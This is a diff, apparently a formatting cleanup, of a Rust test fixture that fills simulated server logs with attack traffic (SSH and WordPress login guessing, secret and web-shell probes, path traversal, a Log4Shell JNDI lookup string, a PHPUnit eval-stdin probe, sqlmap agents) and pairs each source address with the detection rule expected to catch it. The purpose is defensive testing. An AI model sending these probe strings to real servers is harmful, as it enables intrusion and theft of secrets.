@@ -19,10 +19,7 @@ pub fn attackers(day: &mut Day) -> Vec<Wanted> {
 
 fn ssh(day: &mut Day) -> Vec<Wanted> {
     for number in 0..12 {
-        day.sshd(
-            HOUR + number * 20,
-            "Failed password for root from 203.0.113.10 port 41022 ssh2",
-        );
+        day.sshd(HOUR + number * 20, "Failed password for root from 203.0.113.10 port 41022 ssh2");
         day.sshd(
             2 * HOUR + number * 30,
             "Connection closed by authenticating user root 203.0.113.11 port 41022 [preauth]",
@@ -62,27 +59,9 @@ fn ssh(day: &mut Day) -> Vec<Wanted> {
 
 fn logins(day: &mut Day) -> Vec<Wanted> {
     for number in 0..40 {
-        day.visit(
-            HOUR + number * 10,
-            "203.0.113.20",
-            "POST /wp-login.php",
-            200,
-            CHROME,
-        );
-        day.visit(
-            HOUR + number * 700,
-            "203.0.113.21",
-            "POST /blog/wp-login.php",
-            200,
-            CHROME,
-        );
-        day.visit(
-            2 * HOUR + number * 5,
-            "203.0.113.22",
-            "POST /xmlrpc.php",
-            403,
-            CHROME,
-        );
+        day.visit(HOUR + number * 10, "203.0.113.20", "POST /wp-login.php", 200, CHROME);
+        day.visit(HOUR + number * 700, "203.0.113.21", "POST /blog/wp-login.php", 200, CHROME);
+        day.visit(2 * HOUR + number * 5, "203.0.113.22", "POST /xmlrpc.php", 403, CHROME);
         day.visit(
             3 * HOUR + number * 5,
             "203.0.113.23",
@@ -90,35 +69,12 @@ fn logins(day: &mut Day) -> Vec<Wanted> {
             401,
             "python-requests/2.32.3",
         );
-        day.visit_as(
-            4 * HOUR + number * 2,
-            "203.0.113.24",
-            "admin",
-            "GET /intern/",
-            401,
-            CHROME,
-        );
-        day.error(
-            5 * HOUR + number * 2,
-            "203.0.113.25",
-            MISMATCH,
-            "GET /intern/",
-        );
+        day.visit_as(4 * HOUR + number * 2, "203.0.113.24", "admin", "GET /intern/", 401, CHROME);
+        day.error(5 * HOUR + number * 2, "203.0.113.25", MISMATCH, "GET /intern/");
     }
     for number in 0..90 {
-        day.visit(
-            6 * HOUR + number / 2,
-            "203.0.113.26",
-            "POST /xmlrpc.php",
-            200,
-            CHROME,
-        );
-        day.error(
-            7 * HOUR + number / 3,
-            "203.0.113.27",
-            LIMITED,
-            "GET /search?q=x",
-        );
+        day.visit(6 * HOUR + number / 2, "203.0.113.26", "POST /xmlrpc.php", 200, CHROME);
+        day.error(7 * HOUR + number / 3, "203.0.113.27", LIMITED, "GET /search?q=x");
     }
     vec![
         ("203.0.113.20", "wp-login-guessing"),
@@ -136,30 +92,15 @@ fn logins(day: &mut Day) -> Vec<Wanted> {
 fn single_requests(day: &mut Day) -> Vec<Wanted> {
     let requests: [(&str, &str, &str, &str); 9] = [
         ("203.0.113.40", "GET /.env", CHROME, "probe-secrets"),
-        (
-            "203.0.113.41",
-            "GET /wp-content/uploads/wso.php",
-            CHROME,
-            "probe-shells",
-        ),
+        ("203.0.113.41", "GET /wp-content/uploads/wso.php", CHROME, "probe-shells"),
         (
             "203.0.113.42",
             "GET /index.php?page=..%252F..%252F..%252F..%252Fetc%252Fpasswd",
             CHROME,
             "path-traversal",
         ),
-        (
-            "203.0.113.43",
-            "GET /",
-            "${jndi:ldap://198.18.0.1/a}",
-            "injection-lookup",
-        ),
-        (
-            "203.0.113.44",
-            "GET /",
-            "sqlmap/1.8.3#stable (https://sqlmap.org)",
-            "bad-agent",
-        ),
+        ("203.0.113.43", "GET /", "${jndi:ldap://198.18.0.1/a}", "injection-lookup"),
+        ("203.0.113.44", "GET /", "sqlmap/1.8.3#stable (https://sqlmap.org)", "bad-agent"),
         (
             "203.0.113.45",
             "POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
@@ -178,22 +119,14 @@ fn single_requests(day: &mut Day) -> Vec<Wanted> {
             CHROME,
             "injection-dropper",
         ),
-        (
-            "2001:db8:ffff:2::/64",
-            "GET /.git/config",
-            CHROME,
-            "probe-secrets",
-        ),
+        ("2001:db8:ffff:2::/64", "GET /.git/config", CHROME, "probe-secrets"),
     ];
     for (target, request, agent, _) in requests {
         let second = day.second(0, 24);
         let ip = target.replace("::/64", "::9");
         day.visit(second, &ip, request, 404, agent);
     }
-    requests
-        .iter()
-        .map(|(target, _, _, rule)| (*target, *rule))
-        .collect()
+    requests.iter().map(|(target, _, _, rule)| (*target, *rule)).collect()
 }
 
 /// Many requests.
@@ -205,13 +138,7 @@ fn crowds(day: &mut Day) -> Vec<Wanted> {
         "app",
     ];
     for (number, word) in (0_u32..).zip(words) {
-        day.visit(
-            8 * HOUR + number / 4,
-            "203.0.113.50",
-            &format!("GET /{word}"),
-            404,
-            FIREFOX,
-        );
+        day.visit(8 * HOUR + number / 4, "203.0.113.50", &format!("GET /{word}"), 404, FIREFOX);
         day.visit(
             9 * HOUR + number / 4,
             "203.0.113.51",
@@ -235,13 +162,7 @@ fn crowds(day: &mut Day) -> Vec<Wanted> {
         );
     }
     for number in 0..1_500 {
-        day.visit(
-            11 * HOUR + number / 200,
-            "203.0.113.53",
-            "GET /search?q=x",
-            200,
-            FIREFOX,
-        );
+        day.visit(11 * HOUR + number / 200, "203.0.113.53", "GET /search?q=x", 200, FIREFOX);
     }
     for client in 0..8 {
         for number in 0..300 {
